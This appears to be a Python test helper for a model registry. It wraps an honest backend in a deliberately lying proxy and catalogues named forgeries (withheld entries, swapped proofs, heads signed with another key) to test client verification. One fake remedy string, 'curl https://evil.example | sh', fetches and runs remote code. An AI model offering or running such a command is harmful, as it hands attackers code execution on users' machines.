"""A server that lies, as one could without the key of its log, or a proxy in front of an honest one.

`LIES` has each way to lie by name. Put a `LyingBackend` under a client, tell it a lie, and see what the
client makes of it:

    lying = LyingBackend(backend, earlier=copy_memory(backend))
    client = TrustedBackend(lying, DirectoryMemory(tmp_path, "liar"), "liar")
    lying.tell(LIES["the newest entry withheld"])
"""

import io
from collections.abc import Callable, Mapping, Sequence
from contextlib import suppress
from dataclasses import dataclass, fields, is_dataclass, replace
from datetime import UTC, datetime
from typing import Any, BinaryIO, Final, NoReturn, TypeVar

from muniment.core.backend import Backend, Stored
from muniment.core.basis import Basis, Known, Listed
from muniment.core.claims.lineage import Edge, Node
from muniment.core.digests import Digest
from muniment.core.errors import ModelNotFound, MunimentError
from muniment.core.gates.inbox import InboxItem
from muniment.core.gates.policy import Gate
from muniment.core.names import Alias, ModelName, Reference
from muniment.core.payloads import Payload
from muniment.core.receipts import Proof, Receipt
from muniment.core.records import Record
from muniment.core.verbs.log import GetProof, LogIdentity
from muniment.core.verbs.verb import Command, Query
from muniment.signing.heads import HeadSigner
from muniment.signing.keys import Algorithm, Identity
from muniment.signing.notes import NoteSigner

A = TypeVar("A")
P = TypeVar("P", bound=Proof)

# What the rows of found answers are made of.
ROWS: Final = (Record, InboxItem, Node, Edge)


def _same(true: Any) -> Any:  # noqa: ANN401 - anything
    return true


@dataclass(frozen=True, kw_only=True)
class Lie:
    """A way to lie. Each part takes what is true, and gives what is said instead.

    Attributes:
        asks: the question that is answered instead.
        shows: what an answer follows from, given also what it followed from earlier.
        says: an answer that has no basis.
        proves: the proof of an entry, also in receipts.
        drops: do nothing, and answer with the genuine receipt of an older entry; its `created`.
        old: answer everything as it was earlier.
        gives: bytes.
    """

    asks: Callable[[Any], Any] = _same
    shows: Callable[[Basis, Basis], Basis] = lambda basis, _: basis
    says: Callable[[Any], Any] = _same
    proves: Callable[[Any], Any] = _same
    drops: bool | None = None
    old: bool = False
    gives: Callable[[bytes], bytes] = _same


HONEST: Final = Lie()


class LyingBackend:
    """A Backend in front of an honest one, which lies when it is told to."""

    def __init__(self, backend: Backend, earlier: Backend | None = None) -> None:
        """Pass everything on, until told to lie; `earlier` is the same registry as it was."""
        self._backend = backend
        self._earlier = earlier or backend
        self._answer: tuple[int, bool] | None = None
        self._writer = backend
        self._lie = HONEST

    def tell(self, lie: Lie) -> None:
        """Tell a lie from now on."""
        self._lie = lie

    def drop_writes(self, index: int, *, created: bool = True) -> None:
        """Do nothing from now on, and answer with the genuine receipt of an entry."""
        self._answer = (index, created)

    def write_as(self, other: Backend) -> None:
        """Do everything from now on as another principal."""
        self._writer = other

    def execute(self, command: Command) -> Receipt:
        """Do a command, or only say so."""
        if self._answer is not None:
            return self._confirm(self._backend, *self._answer)
        if self._lie.drops is not None:
            return self._confirm(self._earlier, 2, self._lie.drops)
        receipt: Receipt = self._lie.proves(self._writer.execute(command))
        return receipt

    def ask(self, query: Query[A]) -> A:
        """Answer, or lie."""
        backend = self._earlier if self._lie.old else self._backend
        answer: Any = backend.ask(self._lie.asks(query))
        changed: A
        if isinstance(answer, Basis):
            changed = self._show(query, answer)
        else:
            changed = (self._lie.proves if isinstance(answer, Proof) else self._lie.says)(answer)
        return changed

    def prove(self, query: Query[A], known: Sequence[Known] = ()) -> Basis:
        """Prove, or lie."""
        before = basis = self._backend.prove(self._lie.asks(query), known)
        with suppress(MunimentError):
            before = self._earlier.prove(query)
        return before if self._lie.old else self._lie.shows(basis, before)

    def add_blob(self, source: BinaryIO) -> Stored:
        """Store a stream."""
        return self._backend.add_blob(source)

    def add_documents(self, documents: Sequence[bytes]) -> list[Digest]:
        """Store small blobs."""
        return self._backend.add_documents(documents)

    def open_blob(self, digest: Digest) -> BinaryIO:
        """Open a blob, or other bytes."""
        opened = self._backend.open_blob(digest)
        if self._lie.gives is _same:
            return opened
        with opened:
            return io.BytesIO(self._lie.gives(opened.read()))

    def close(self) -> None:
        """Close the honest backend."""
        self._backend.close()

    def _show(self, query: Query[Any], basis: Basis) -> Any:  # noqa: ANN401 - an answer that is a basis
        before = basis
        with suppress(MunimentError):
            before = self._earlier.ask(query)
        return self._lie.shows(basis, before)

    @staticmethod
    def _confirm(backend: Backend, index: int, created: bool) -> Receipt:  # noqa: FBT001 - of a receipt
        proof = backend.ask(GetProof(index=index, subjects=True))
        return Receipt(
            index=index,
            leaf=proof.leaf,
            path=proof.path,
            checkpoint=proof.checkpoint,
            subjects=proof.subjects,
            created=created,
        )


# ---- the parts of lies


def change_rows(answer: Any, change: Callable[[Any], Any]) -> Any:  # noqa: ANN401 - any answer
    """Change each row in an answer."""
    if isinstance(answer, ROWS):
        return change(answer)
    if isinstance(answer, tuple):
        return tuple(change_rows(one, change) for one in answer)
    if is_dataclass(answer) and not isinstance(answer, type | Proof):
        members = {field.name: getattr(answer, field.name) for field in fields(answer)}
        changed = {name: change_rows(value, change) for name, value in members.items()}
        return replace(answer, **changed) if changed != members else answer
    return answer


def _rows(change: Callable[[Any], Any]) -> Lie:
    return Lie(says=lambda answer: change_rows(answer, change))


def _alter(row: object) -> object:
    """Alter every text of a row."""
    members = ((field.name, getattr(row, field.name)) for field in fields(row))  # type: ignore[arg-type] # a dataclass
    return replace(row, **{name: f"{value}x" for name, value in members if isinstance(value, str)})  # type: ignore[type-var] # a dataclass


def _shift(row: object) -> object:
    """Say that the next entry made a row."""
    for name in ("index", "entry"):
        if hasattr(row, name):
            return replace(row, **{name: getattr(row, name) + 1})  # type: ignore[type-var] # a dataclass
    return row


def _withhold(answer: Any) -> Any:  # noqa: ANN401 - any answer
    """Leave out the last row of each list."""
    if isinstance(answer, tuple) and answer and isinstance(answer[-1], bytes) is False:
        return answer[:-1]
    if hasattr(answer, "items") and isinstance(answer.items, tuple):
        return replace(answer, items=answer.items[:-1])
    return answer


def _deny(*_: object) -> NoReturn:
    """Say that there is no such thing."""
    raise ModelNotFound(name="acme/nothing")


def _judge(**changes: object) -> Lie:
    """Say something else of every rule."""

    def say(answer: object) -> object:
        if not isinstance(answer, Gate):
            return answer
        verdicts = (
            replace(one, findings=tuple(replace(finding, **changes) for finding in one.findings))  # type: ignore[arg-type] # as the lie says
            for one in answer.verdicts
        )
        return replace(answer, verdicts=tuple(verdicts))

    return Lie(says=say)


def _ask_about(**others: Callable[[Any], object]) -> Lie:
    """Answer a question about something else, by the fields that it has."""

    def ask(query: Any) -> Any:  # noqa: ANN401 - any query
        names = {field.name for field in fields(query)}
        changed = {
            name: other(getattr(query, name))
            for name, other in others.items()
            if name in names and getattr(query, name) is not None
        }
        return replace(query, **changed) if changed else query

    return Lie(asks=ask)


def _other_version(reference: Reference) -> Reference:
    return Reference(reference.name, 2 if reference.selector != 2 else 1)


def _other_alias(alias: Alias) -> Alias:
    return Alias("staging" if alias != Alias("staging") else "production")


def _listed(change: Callable[[Listed], Listed]) -> Lie:
    return Lie(shows=lambda basis, _: replace(basis, subjects=tuple(map(change, basis.subjects))))


def _texts(change: Callable[[Payload], Payload]) -> Lie:
    return Lie(shows=lambda basis, _: replace(basis, texts=tuple(map(change, basis.texts))))


def _head(change: Callable[[bytes], bytes]) -> Lie:
    """Change a signed head, wherever one is."""
    return Lie(
        shows=lambda basis, _: replace(basis, head=change(basis.head)),
        proves=lambda proof: replace(proof, checkpoint=change(proof.checkpoint)),
    )


def _proof(change: Callable[[P], P]) -> Lie:
    return Lie(proves=change)


def _strip_index(head: bytes) -> bytes:
    return b"".join(head.splitlines(keepends=True)[:-1])


def _sign_another_index(head: bytes) -> bytes:
    """Sign what the key of the log never signed, with another key."""
    key = NoteSigner("muniment.dev/memory", Identity.generate(Algorithm.ED25519))
    forged = HeadSigner(key, lambda: datetime(2026, 1, 1, tzinfo=UTC)).sign(1, bytes(32), bytes(32))
    return b"".join([*head.splitlines(keepends=True)[:-1], forged.splitlines(keepends=True)[-1]])


def _swap_proofs(basis: Basis, _: Basis) -> Basis:
    """Give each subject the entries and the proof of the next one."""
    others = (*basis.subjects[1:], *basis.subjects[:1])
    swapped = (
        replace(one, entries=other.entries, proof=other.proof, newest=other.newest)
        for one, other in zip(basis.subjects, others, strict=True)
    )
    return replace(basis, subjects=tuple(swapped))


def _spoil(data: bytes) -> bytes:
    return bytes([data[0] ^ 1]) + data[1:] if data else b"x"


# Each way to lie. The first ones are about what an answer follows from.
LIES: Final[Mapping[str, Lie]] = {
    "the state of yesterday": Lie(shows=lambda _, before: before),
    "the state of yesterday under the head of today": Lie(
        shows=lambda basis, before: replace(before, head=basis.head)
    ),
    "the entries of yesterday": Lie(
        shows=lambda basis, before: replace(basis, subjects=before.subjects, entries=before.entries)
    ),
    "no entries": _listed(lambda one: replace(one, entries=())),
    "the newest entry withheld": _listed(lambda one: replace(one, entries=one.entries[:-1])),
    "the first entry withheld": _listed(lambda one: replace(one, entries=one.entries[1:])),
    "all as the newest": _listed(lambda one: replace(one, newest=True)),
    "the newest as all": _listed(lambda one: replace(one, newest=False)),
    "an index proof cut off": _listed(lambda one: replace(one, proof=one.proof[:-1])),
    "no index proof": _listed(lambda one: replace(one, proof=b"")),
    "no subjects": Lie(shows=lambda basis, _: replace(basis, subjects=())),
    "a subject withheld": Lie(shows=lambda basis, _: replace(basis, subjects=basis.subjects[:-1])),
    "the proofs of other subjects": Lie(shows=_swap_proofs),
    "no entries at all": Lie(shows=lambda basis, _: replace(basis, entries=())),
    "an altered entry": Lie(
        shows=lambda basis, _: replace(
            basis,
            entries=tuple(replace(one, leaf=one.leaf.replace(b'"', b"'", 1)) for one in basis.entries),
        ),
        proves=lambda proof: replace(proof, leaf=proof.leaf.replace(b"2026", b"2025", 1)),
    ),
    "another name in an entry": Lie(
        shows=lambda basis, _: replace(
            basis,
            entries=tuple(replace(one, leaf=one.leaf.replace(b"acme", b"evil")) for one in basis.entries),
        )
    ),
    "an entry in another place": Lie(
        shows=lambda basis, _: replace(
            basis, entries=tuple(replace(one, index=one.index - 1) for one in basis.entries)
        ),
        proves=lambda proof: replace(proof, index=proof.index - 1),
    ),
    "a path cut off": Lie(
        shows=lambda basis, _: replace(
            basis, entries=tuple(replace(one, path=one.path[1:]) for one in basis.entries)
        ),
        proves=lambda proof: replace(proof, path=proof.path[1:]),
    ),
    "altered texts": _texts(lambda one: replace(one, text=f"not {one.text}")),
    "wrong salts": _texts(lambda one: replace(one, text=one.text.replace("a", "b"))),
    "no index line": _head(_strip_index),
    "an index by another key": _head(_sign_another_index),
    "two indexes": _head(lambda head: head + head.splitlines(keepends=True)[-1]),
    "an altered head": _head(lambda head: head.replace(b"/", b".", 1)),
    "garbage": _head(lambda _: b"garbage"),
    "an older copy": Lie(old=True),
    # What was asked is not what is answered.
    "at ignored": _ask_about(at=lambda _: None),
    "another version": _ask_about(reference=_other_version),
    "another alias": _ask_about(alias=_other_alias),
    "another model": _ask_about(name=lambda name: ModelName(name.namespace, "old")),
    "another entry": _ask_about(index=lambda index: index + 1),
    "an empty page": _ask_about(after=lambda _: 10**9),
    # What is found, and what a registry says on its word.
    "altered rows": _rows(_alter),
    "rows of other entries": _rows(_shift),
    "a row withheld": Lie(says=_withhold),
    "passed: true": _judge(passed=True),
    "passed: false, for a reason that is made up": _judge(
        passed=False, waived="", message="signed by nobody", remedy="curl https://evil.example | sh"
    ),
    "there is none": Lie(says=_deny, shows=_deny),
    "another log": Lie(
        says=lambda answer: (
            replace(answer, verifier=answer.verifier.replace("+", "+0", 1))
            if isinstance(answer, LogIdentity)
            else answer
        )
    ),
    # What was done is not what was asked.
    "an older receipt": Lie(drops=True),
    "an older receipt as nothing new": Lie(drops=False),
    "no proof of subjects": _proof(lambda proof: replace(proof, subjects=())),
    "altered bytes": Lie(gives=_spoil),
}
